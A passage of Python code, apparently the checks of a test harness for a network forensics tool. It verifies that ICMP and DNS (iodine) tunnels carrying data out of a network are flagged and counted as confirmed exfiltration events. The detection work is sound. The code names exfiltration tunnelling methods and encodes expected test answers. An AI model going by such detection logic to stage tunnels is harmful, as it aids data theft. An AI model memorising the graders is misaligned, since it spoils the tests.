    # to be printable (a random IP id or checksum) to a line now and then (19 or 20 found)
    ok = fok and len(obj) == 1 and obj[0][1] == "upload" and (obj[0][2] or 0) >= \
        t["individuals"] - 2 and found == len(lines)
    return ok, "finding %s; object %s; %d of %d datagrams in it" % (fnd, obj, found, len(lines)), \
        "dns_tunnel finding (client %s, resolver %s, %s), iodine packets decoded with all %d " \
        "datagrams, about %d individuals in the object" % (t["client"], t["resolver"], t["domain"],
                                                     len(lines), t["individuals"])


def check_icmp(con, t, binary, case):
    fnd = con.execute("SELECT source, destination FROM finding WHERE heuristic = 'icmp_tunnel'"
                      ).fetchall()
    obj = con.execute("SELECT o.protocol, o.direction, o.complete, o.size >= ? FROM object o "
                      "JOIN flow f ON f.id = o.flow_id WHERE f.server_addr = ? AND o.depth = 0",
                      (t["size"], t["server"])).fetchall()
    ind = con.execute("SELECT individuals, verdict FROM exfil_event WHERE destination = ?",
                      (t["server"],)).fetchall()
    want = ([(t["client"], t["server"])], [("icmp", "upload", 1, 1)],
            [(t["individuals"], "confirmed")])
    return (fnd, obj, ind) == want, "finding %s, object %s, exfil_event %s; want %s" % (
        fnd, obj, ind, want), "icmp_tunnel finding (%s -> %s), the echo payloads one object, " \
        "%d individuals confirmed" % (t["client"], t["server"], t["individuals"])


CHECKS = {"icmp": check_icmp, "iodine": check_iodine, "smb": check_smb, "smb-encrypted": check_smb_encrypted, "dicom": check_dicom,
          "hl7": check_hl7, "dns-tunnel": check_dns_tunnel}
